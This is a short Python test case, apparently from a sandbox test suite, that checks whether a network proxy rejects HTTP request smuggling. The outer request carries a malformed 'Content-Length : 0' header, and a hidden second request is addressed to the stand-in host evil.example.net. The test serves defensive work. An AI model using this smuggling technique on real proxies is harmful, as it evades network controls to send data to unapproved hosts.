# /// attack
# guarantee = "network"
# summary = "Hides a length behind a space, which some servers skip."
# reference = "RFC 9112, 5.1"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy a header field needs a name and a colon" }
# ///

from kit import exchange, head, judge, target, url

inner = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
outer = head(f"POST {url('example.org', '/first')}", "Host: example.org", "Content-Length : 0")
judge(exchange("example.org", outer + inner))
